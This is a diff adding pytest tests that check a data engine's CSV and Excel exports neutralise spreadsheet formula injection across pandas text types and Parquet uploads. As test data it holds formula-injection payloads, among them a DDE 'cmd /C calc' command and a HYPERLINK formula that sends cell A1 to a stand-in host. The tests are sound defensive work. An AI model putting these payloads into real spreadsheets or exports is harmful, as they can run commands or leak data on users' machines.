@@ -248,3 +248,105 @@ def test_damaged_meta_is_skipped_named_and_repaired_by_a_new_upload(tmp_path):
 def test_dataset_ids_that_are_not_hashes_are_unknown(tmp_path, sha):
     with pytest.raises(KeyError):
         DatasetStore(tmp_path / "datasets").get(sha)
+
+
+# -- formulas in exports (issue 22): neutralised by value, whatever the column's dtype --------------------
+FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+FORMULAS += ["\t=1+1", "\r=1+1", "  =1+1", " \t@SUM(A1)"]
+SAFE = ["Google", "a = b", "x-1", "", "1,5"]
+
+
+def hostile_frame(dtype) -> pd.DataFrame:
+    """One text column of ``dtype`` holding every formula and every safe text, a number column, a missing cell
+    and headers that are formulas themselves."""
+    texts = [*FORMULAS, *SAFE, None]
+    frame = pd.DataFrame(
+        {
+            "Notes": pd.Series(texts, dtype=dtype),
+            "=cmd|' /C calc'!A0": pd.Series(["=2+2"] * len(texts), dtype=dtype),
+            " @header": pd.Series(SAFE[:1] * len(texts), dtype=dtype),
+            "TotalVisits": np.arange(len(texts), dtype=float) - 3,  # negative numbers stay numbers
+        }
+    )
+    return frame
+
+
+TEXT_DTYPES = [object, "category", "string", "string[pyarrow]", "str", pd.ArrowDtype(__import__("pyarrow").string())]
+
+
+def check_neutralised(rows: list[list]) -> None:
+    """``rows`` (header first) as a spreadsheet reads them: no text cell it would run as a formula."""
+    header, body = rows[0], rows[1:]
+    assert header == ["Notes", "'=cmd|' /C calc'!A0", "' @header", "TotalVisits"]
+    assert len(body) == len(FORMULAS) + len(SAFE) + 1 and all(r[1] == "'=2+2" for r in body)
+    notes = [r[0] for r in body]
+    for original in FORMULAS:  # an XML reader gives a worksheet's carriage return as a line feed
+        assert "'" + original in notes or "'" + original.replace("\r", "\n") in notes, original
+    for safe in SAFE[:-1]:  # the empty text reads back as a blank cell
+        assert safe in notes
+    for cell in (c for r in rows for c in r):
+        assert not (isinstance(cell, str) and cell.lstrip().startswith(("=", "+", "-", "@"))), cell
+    assert [r[3] for r in body][:4] == [-3, -2, -1, 0]
+
+
+@pytest.mark.parametrize("dtype", TEXT_DTYPES, ids=str)
+def test_csv_export_neutralises_formula_cells_and_headers_of_every_text_dtype(dtype):
+    import csv
+
+    from engine.storage import export_csv
+
+    rows = list(csv.reader(io.StringIO(export_csv(hostile_frame(dtype)).decode("utf-8"), newline="")))
+    typed = [rows[0]] + [[*r[:3], float(r[3])] for r in rows[1:]]
+    check_neutralised(typed)
+
+
+@pytest.mark.parametrize("dtype", TEXT_DTYPES, ids=str)
+def test_excel_export_neutralises_formula_cells_and_headers_of_every_text_dtype(dtype):
+    import openpyxl
+
+    from engine.storage import export_excel
+
+    book = openpyxl.load_workbook(io.BytesIO(export_excel(hostile_frame(dtype))))  # formulas are kept as formulas here
+    sheet = book.worksheets[0]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
+    check_neutralised(rows)
+
+
+def test_a_parquet_upload_with_categorical_and_arrow_text_is_neutralised_on_export():
+    """The attack of issue 22: a Parquet file whose text columns are dictionary-encoded (pandas categoricals)
+    read back by the product's own reader, then exported."""
+    from engine.storage import export_csv, export_excel
+
+    frame = pd.DataFrame(
+        {
+            "Lead Source": pd.Categorical(FORMULAS),
+            "City": pd.Series(FORMULAS, dtype="string[pyarrow]"),
+            '=HYPERLINK("http://x")': range(len(FORMULAS)),
+        }
+    )
+    buffer = io.BytesIO()
+    frame.to_parquet(buffer)
+    back = read_table(buffer.getvalue(), filename="evil.parquet")
+    assert isinstance(back["Lead Source"].dtype, pd.CategoricalDtype)  # the reader keeps the dictionary
+    import csv
+
+    rows = list(csv.reader(io.StringIO(export_csv(back).decode("utf-8"), newline="")))
+    assert rows[0] == ["Lead Source", "City", '\'=HYPERLINK("http://x")'] and len(rows) == len(FORMULAS) + 1
+    assert [r[:2] for r in rows[1:]] == [["'" + f, "'" + f] for f in FORMULAS]
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(back))).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert sum(isinstance(c.value, str) and c.value.startswith("'") for c in cells) == 2 * len(FORMULAS) + 1
+
+
+def test_excel_export_writes_control_characters_a_worksheet_cannot_hold():
+    import openpyxl
+
+    from engine.storage import export_excel
+
+    frame = pd.DataFrame({"Notes\x07": ["bell\x07here", "=1+1\x00"]})
+    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(frame))).worksheets[0]
+    assert [c.value for c in sheet["A"]] == ["Notes\ufffd", "bell\ufffdhere", "'=1+1\ufffd"]
